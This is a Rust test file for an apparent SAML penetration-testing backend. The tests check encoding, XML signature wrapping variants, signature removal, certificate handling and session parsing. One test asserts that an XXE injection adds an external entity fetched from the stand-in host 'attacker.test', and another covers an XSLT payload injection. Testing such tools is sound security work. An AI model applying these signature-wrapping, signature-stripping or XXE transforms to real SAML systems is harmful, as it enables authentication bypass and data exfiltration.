mod common;

use std::collections::HashMap;

use common::{SIGNED_RESPONSE, count};
use saml_raider::{
    backend::{SamlBackend, codes},
    config::Config,
    saml::{Binding, encode},
};

fn create_backend() -> SamlBackend {
    SamlBackend::new()
}

#[test]
fn test_decode_encode() {
    let backend = create_backend();
    let encoded = backend.encode_saml(SIGNED_RESPONSE, Some("POST"));
    assert!(encoded.success);
    let raw = encoded.data.unwrap();

    let decoded = backend.decode_saml(&raw, None);
    assert_eq!(decoded.data.as_deref(), Some(SIGNED_RESPONSE));

    let failed = backend.decode_saml("***", Some("Redirect"));
    assert!(!failed.success);
    assert_eq!(failed.error.unwrap().code, codes::PARSE_ERROR);

    let unknown = backend.encode_saml(SIGNED_RESPONSE, Some("Artifact"));
    assert_eq!(unknown.error.unwrap().code, codes::INVALID_INPUT);
}

#[test]
fn test_default_binding_from_config() {
    let vars = HashMap::from([(
        "codec.default_binding".to_string(),
        "Redirect".to_string(),
    )]);
    let config = Config::load_with_sources(Some(vars)).unwrap();
    let backend = SamlBackend::from_config(&config);

    let raw = encode("<a/>", Binding::Redirect);
    assert_eq!(backend.decode_saml(&raw, None).data.as_deref(), Some("<a/>"));
}

#[test]
fn test_backend_from_env() {
    let backend = SamlBackend::from_env().unwrap();
    assert!(backend.sessions().is_empty());
    assert!(backend.certificates().is_empty());
}

#[test]
fn test_apply_xsw_responses() {
    let backend = create_backend();

    let result = backend.apply_xsw(SIGNED_RESPONSE, 3);
    assert!(result.success);
    assert_eq!(count(&result.data.unwrap(), "<saml:Assertion"), 2);

    let invalid = backend.apply_xsw(SIGNED_RESPONSE, 99);
    let error = invalid.error.unwrap();
    assert_eq!(error.code, codes::INVALID_VARIANT);
    assert!(error.message.contains("not supported"));

    let no_assertion = backend.apply_xsw("<samlp:Response/>", 4);
    assert_eq!(no_assertion.error.unwrap().code, codes::NO_ASSERTION);

    let unsigned = backend.remove_signatures(SIGNED_RESPONSE).data.unwrap();
    let no_signature = backend.apply_xsw(&unsigned, 1);
    assert_eq!(no_signature.error.unwrap().code, codes::NO_SIGNATURE);
}

#[test]
fn test_injections_always_succeed() {
    let backend = create_backend();
    let xxe = backend.apply_xxe(SIGNED_RESPONSE, "http://attacker.test/xxe.dtd");
    assert!(
        xxe.data
            .unwrap()
            .contains(r#"<!ENTITY % xxe SYSTEM "http://attacker.test/xxe.dtd">"#)
    );

    let xslt = backend.apply_xslt("", "test payload");
    assert!(xslt.success);
    assert!(xslt.data.unwrap().contains("base64,dGVzdCBwYXlsb2Fk"));
}

#[test]
fn test_signature_removal_errors() {
    let backend = create_backend();
    for response in [
        backend.remove_signatures(""),
        backend.remove_document_signature(""),
        backend.remove_assertion_signatures(""),
    ] {
        assert!(!response.success);
        assert_eq!(response.error.unwrap().code, codes::INVALID_INPUT);
    }
}

#[test]
fn test_certificate_lifecycle() {
    let backend = create_backend();
    let imported = backend
        .import_certificate("Subject: CN=idp.test\n-----BEGIN CERTIFICATE-----", None)
        .data
        .unwrap();
    assert_eq!(imported.name, "idp.test");
    assert_eq!(backend.get_certificates().data.unwrap().len(), 1);

    let sign = backend.sign_saml(SIGNED_RESPONSE, &imported.id);
    assert_eq!(sign.error.unwrap().code, codes::CERT_NO_KEY);

    let clone = backend.clone_certificate(&imported.id);
    assert_eq!(clone.error.unwrap().code, codes::UNSUPPORTED);

    let create = backend.create_certificate("CN=new");
    assert_eq!(create.error.unwrap().code, codes::UNSUPPORTED);

    assert!(backend.delete_certificate(&imported.id).success);
    let missing = backend.delete_certificate(&imported.id);
    assert_eq!(missing.error.unwrap().code, codes::CERT_NOT_FOUND);

    let sign = backend.sign_saml(SIGNED_RESPONSE, &imported.id);
    assert_eq!(sign.error.unwrap().code, codes::CERT_NOT_FOUND);
}

#[test]
fn test_sign_with_key_is_unsupported() {
    let backend = create_backend();
    let certificate = backend
        .import_certificate("pem", Some("key".to_string()))
        .data
        .unwrap();
    let response = backend.sign_saml(SIGNED_RESPONSE, &certificate.id);
    assert!(response.data.is_none());
    assert_eq!(response.error.unwrap().code, codes::UNSUPPORTED);
}

#[test]
fn test_info_and_validation() {
    let backend = create_backend();
    let info = backend.extract_info(SIGNED_RESPONSE).data.unwrap();
    assert_eq!(info.issuer_response, "http://idp.example.com");
    assert_eq!(info.assertion_id, "_assertion_id_456");
    assert_eq!(info.conditions.audiences, vec!["http://sp.example.com"]);
    assert!(info.signature_present);

    let broken = backend.extract_info("<a><b></a>");
    let error = broken.error.unwrap();
    assert_eq!(error.code, codes::PARSE_ERROR);
    assert!(error.message.starts_with("Invalid XML"));

    let validation = backend.validate(SIGNED_RESPONSE).data.unwrap();
    assert!(validation.valid);
    assert!(validation.errors.is_empty());
}

#[test]
fn test_session_from_request() {
    let backend = create_backend();
    let body = format!(
        "SAMLResponse={}",
        urlencoding::encode(&encode(SIGNED_RESPONSE, Binding::Post))
    );
    let id = backend.open_session(&body).data.unwrap();

    let sessions = backend.sessions();
    sessions
        .apply(id, |xml| saml_raider::saml::apply_xsw(xml, 7))
        .unwrap();
    assert!(sessions.current(id).unwrap().contains("<Extensions>"));

    let missing = backend.open_session("RelayState=x");
    assert_eq!(missing.error.unwrap().code, codes::INVALID_INPUT);
}

#[test]
fn test_response_json_shape() {
    let backend = create_backend();
    let ok = serde_json::to_value(backend.apply_xxe("<a/>", "http://x")).unwrap();
    assert_eq!(ok["success"], true);
    assert!(ok.get("error").is_none());

    let failed = serde_json::to_value(backend.apply_xsw("<a/>", 0)).unwrap();
    assert_eq!(failed["success"], false);
    assert!(failed.get("data").is_none());
    assert_eq!(failed["error"]["code"], "INVALID_VARIANT");
    assert!(failed["error"]["details"].is_string());
}
